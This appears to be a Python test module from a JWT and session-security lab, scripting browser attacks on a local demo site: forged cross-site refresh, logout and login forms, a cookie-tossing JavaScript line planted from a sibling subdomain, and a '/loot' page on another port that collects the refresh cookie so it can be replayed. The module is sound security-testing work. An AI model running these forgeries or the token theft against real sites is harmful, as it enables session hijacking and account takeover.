"""The victim is logged in, and opens a page of the attacker's. What can that page make the browser do?

Three places for it: another site, another port of the same host, and a sibling host. SameSite tells the first
from the other two; the port is part of an origin, but not of a site, and a cookie does not know it at all.
"""

from urllib.parse import urlencode

from jwtlab.attacks.actors import Lab, who_is_logged_in
from jwtlab.attacks.registry import Evidence, attack
from jwtlab.site.demo_users import PASSWORDS

SITE = "127.0.0.1"
OTHER_SITE = "localhost"
SHOP, SIBLING = "www.shop.localhost", "evil.shop.localhost"  # below one registrable domain, `shop.localhost`

PLACES = {
    "another site": {"victim": SITE, "attacker": OTHER_SITE},
    "another port": {"victim": SITE, "attacker": SITE},
    "a sibling": {"victim": SHOP, "attacker": SIBLING},
}


@attack(
    "A page of {} makes the browser refresh.",
    source="ASVS 3.5.1, rfc6265bis §8.8",
    in_browser=True,
    each=PLACES,
)
def refresh_forged_by(lab: Lab, victim: str, attacker: str) -> Evidence:
    return _send_form(lab, lab.at(victim) + "/api/token/refresh/", victim, attacker)


@attack(
    "A page of {} logs its visitor out.",
    source="ASVS 3.5.1, rfc6265bis §8.8",
    in_browser=True,
    each=PLACES,
)
def logout_forged_by(lab: Lab, victim: str, attacker: str) -> Evidence:
    return _send_form(lab, lab.at(victim) + "/logout/", victim, attacker)


def _send_form(lab: Lab, target: str, victim: str, attacker: str) -> Evidence:
    page = lab.logged_in_page(lab.visitor(), at=lab.at(victim))
    sent = page.go(f"{lab.attacker_at(attacker)}/form/?{urlencode({'action': target})}").answer(target)
    cookie = "sent" if any("refresh" in name for name in sent.cookies) else "not sent"
    return Evidence(sent.status < 300, f"{sent.site}, cookie {cookie}: {sent.status}")


@attack(
    "A page of another site logs its visitor in as the attacker.",
    source="ASVS 3.5.1, rfc6265bis §8.8",
    in_browser=True,
)
def login_forged_by_another_site(lab: Lab) -> Evidence:
    fields = {"action": lab.url + "/login/", "username": "mallory", "password": PASSWORDS["mallory"]}
    page = lab.visitor().open(f"{lab.attacker_at(OTHER_SITE)}/form/?{urlencode(fields)}")
    sent = page.answer(lab.url + "/login/")
    who = who_is_logged_in(page.go(lab.url + "/app/cookie/"))
    return Evidence(who == "mallory", f"login {sent.status}; then logged in: {who}")


@attack(
    "A sibling host puts the attacker's cookie in place of the visitor's.",
    source="rfc6265bis §8.6, ASVS 3.3.3",
    in_browser=True,
)
def cookie_tossed_by_a_sibling(lab: Lab) -> Evidence:
    vitor = lab.visitor()
    page = lab.logged_in_page(vitor, at=lab.at(SHOP))
    ((name, value),) = lab.log_in("mallory").cookie.items()
    toss = f"document.cookie = '{name}={value}; Domain=shop.localhost; Path=/; Secure; SameSite=Strict'"
    page.go(lab.attacker_at(SIBLING)).run(toss)
    kept = [cookie for cookie in vitor.cookies() if cookie.domain == ".shop.localhost"]
    who = who_is_logged_in(page.go(lab.at(SHOP) + "/app/cookie/"))
    return Evidence(who == "mallory", f"cookie {'kept' if kept else 'not kept'}; logged in: {who}")


@attack(
    "A script on another port reads the access token that it makes the site give out.",
    source="ASVS 3.4.2",
    in_browser=True,
)
def answer_read_by_another_port(lab: Lab) -> Evidence:
    page = lab.logged_in_page(lab.visitor())
    refresh = {"url": lab.url + "/api/token/refresh/", "method": "POST"}
    tries = [refresh, refresh | {"header": "X-Auth-Request: 1"}]  # without the site's own header, and with it
    texts = [page.go(f"{lab.attacker_at(SITE)}/fetch/?{urlencode(one)}").see('"read"').text for one in tries]
    read = [text for text in texts if '"read":true' in text]
    return Evidence(bool(read), f"{len(read)} of 2 answers could be read")


@attack(
    "Another port of the host is sent the refresh cookie, and can use it.",
    source="rfc6265bis §8.5, ASVS 3.5.4",
    in_browser=True,
)
def cookie_sent_to_another_port(lab: Lab) -> Evidence:
    page = lab.logged_in_page(lab.visitor())
    page.go(lab.attacker_at(SITE) + "/loot")
    received = dict(cookie.split("=", 1) for cookie in lab.loot()[-1]["cookies"].split("; ") if cookie)
    stolen = {name: value for name, value in received.items() if value.startswith("eyJ")}
    refresh = lab.thief(stolen).refresh()
    return Evidence(refresh.ok, f"sent {', '.join(stolen) or 'no token'}; used there: {refresh.status_code}")
